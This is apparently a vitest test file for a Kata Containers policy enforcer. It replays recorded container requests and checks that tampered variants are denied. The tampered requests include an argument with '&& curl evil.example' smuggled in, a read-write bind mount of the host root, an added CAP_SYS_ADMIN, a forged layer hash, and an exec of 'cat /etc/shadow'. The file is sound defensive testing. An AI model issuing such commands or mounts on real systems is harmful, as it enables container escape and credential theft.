/**
 * The real recordings: every request of ../shared/kata-requests replayed through the enforcer gives
 * the recorded decision; then mutations of each allowed CreateContainerRequest (and an unlisted exec)
 * are denied, with an explanation naming the field that broke the policy.
 */
import { describe, expect, it } from 'vitest';
import { PolicyEnforcer } from '../../src/agent/enforcer.js';
import { replay, parseRecordedRequests } from '../../src/agent/replay.js';
import { explainDenial } from '../../src/agent/explain.js';
import { createLogger } from '../../src/core/log.js';
import { loadKataCases } from '../helpers/kata.js';
import { runConfcom } from '../helpers/cli.js';
import { readFileSync } from 'node:fs';

const cases = loadKataCases();
const quiet = createLogger({ level: 'silent' });

type Request = Record<string, unknown> & {
  OCI: { Process: { Env: string[]; Args: string[]; Capabilities: { Bounding: string[] } }; Mounts: unknown[] };
  storages: { options: string[] }[];
};

function mutations(request: Request): { name: string; path: RegExp; request: Request }[] {
  const copy = () => structuredClone(request);
  const env = copy();
  env.OCI.Process.Env.push('EVIL=1');
  const args = copy();
  args.OCI.Process.Args[args.OCI.Process.Args.length - 1] += ' && curl evil.example';
  const storage = copy();
  const isPin = (o: string) => o.startsWith('io.katacontainers.fs-opt.root-hash=');
  const layer = storage.storages.find((s) => s.options.some(isPin));
  if (layer) layer.options[layer.options.findIndex(isPin)] = 'io.katacontainers.fs-opt.root-hash=' + 'f'.repeat(64);
  const mount = copy();
  mount.OCI.Mounts.push({ destination: '/host', source: '/', type_: 'bind', options: ['rbind', 'rw'] });
  const cap = copy();
  cap.OCI.Process.Capabilities.Bounding.push('CAP_SYS_ADMIN');
  return [
    { name: 'added environment variable', path: /^OCI\.Process\.Env\[\d+\]$/, request: env },
    { name: 'changed argument', path: /^OCI\.Process\.Args(\[\d+\])?$/, request: args },
    ...(layer ? [{ name: 'changed layer root hash', path: /^storages\[\d+\]/, request: storage }] : []),
    { name: 'extra mount', path: /^OCI\.Mounts(\[\d+\])?/, request: mount },
    { name: 'privileged capability', path: /^OCI\.Process\.Capabilities\.Bounding/, request: cap },
  ];
}

describe.skipIf(!cases)('real Kata recordings', () => {
  for (const c of cases ?? []) {
    describe(c.name, () => {
      it('reproduces every recorded decision', () => {
        const enforcer = PolicyEnforcer.fromText(c.policy, { logger: quiet });
        const outcomes = replay(enforcer, parseRecordedRequests(readFileSync(c.requestsFile, 'utf8'), c.requestsFile));
        expect(outcomes.length).toBe(c.requests.length);
        const wrong = outcomes.filter((o) => o.matches !== true).map((o) => `${o.record.line} ${o.record.kind}: ${JSON.stringify(o.decision)}`);
        expect(wrong).toEqual([]);
      });

      const creates = c.requests.filter((r) => r.kind === 'CreateContainerRequest' && r.expect === true);
      creates.forEach((record, n) => {
        for (const m of mutations(record.request as Request)) {
          it(`denies CreateContainerRequest #${n} with a ${m.name}, naming the field`, () => {
            const enforcer = PolicyEnforcer.fromText(c.policy, { logger: quiet });
            const decision = enforcer.decide('CreateContainerRequest', m.request);
            expect(decision.allowed).toBe(false);
            const { checks } = explainDenial(enforcer, 'CreateContainerRequest', m.request, decision);
            expect(checks[0]?.path ?? checks[0]?.message).toMatch(m.path);
          });
        }
      });

      it('applies every kind of mutation to at least one container request of the pod', () => {
        // The layer pin only where the recording carries layers: k8s-policy-pod's requests have no
        // storages, and its (upstream, older) policy does not check them, so no storage tampering
        // could be denied there. The kind must still hit some recording (the test below).
        const withLayers = creates.some((r) => mutations(r.request as Request).some((m) => m.name === 'changed layer root hash'));
        const kinds = ['added environment variable', 'changed argument', 'extra mount', 'privileged capability', ...(withLayers ? ['changed layer root hash'] : [])];
        const hit = new Set(creates.flatMap((record) => mutations(record.request as Request).map((m) => m.name)));
        expect(creates.length).toBeGreaterThan(0);
        expect(kinds.filter((k) => !hit.has(k))).toEqual([]);
      });

      const execs = c.requests.filter((r) => r.kind === 'ExecProcessRequest' && r.expect === true);
      it.skipIf(execs.length === 0)('denies an ExecProcessRequest with a command the policy does not list', () => {
        const enforcer = PolicyEnforcer.fromText(c.policy, { logger: quiet });
        const request = structuredClone(execs[0].request) as { process: { Args: string[] } };
        request.process.Args = ['/bin/sh', '-c', 'cat /etc/shadow'];
        const decision = enforcer.decide('ExecProcessRequest', request);
        expect(decision.allowed).toBe(false);
        const { checks } = explainDenial(enforcer, 'ExecProcessRequest', request, decision);
        expect(checks[0]?.path ?? checks[0]?.message).toMatch(/^process\.Args/);
      });
    });
  }

  it('changes a layer pin in at least one recording', () => {
    const all = (cases ?? []).flatMap((c) => c.requests.filter((r) => r.kind === 'CreateContainerRequest' && r.expect === true));
    expect(all.some((r) => mutations(r.request as Request).some((m) => m.name === 'changed layer root hash'))).toBe(true);
  });

  it('`confcom policy replay` reproduces every expect and exits 0', async () => {
    for (const c of cases ?? []) {
      const r = await runConfcom(['policy', 'replay', '--policy', c.policyFile, '--requests', c.requestsFile]);
      expect(r.stderr).toBe('');
      expect(r.code).toBe(0);
      expect(r.stdout).toContain(`${c.requests.length} requests: ${c.requests.length} as expected, 0 differ`);
    }
  });
});
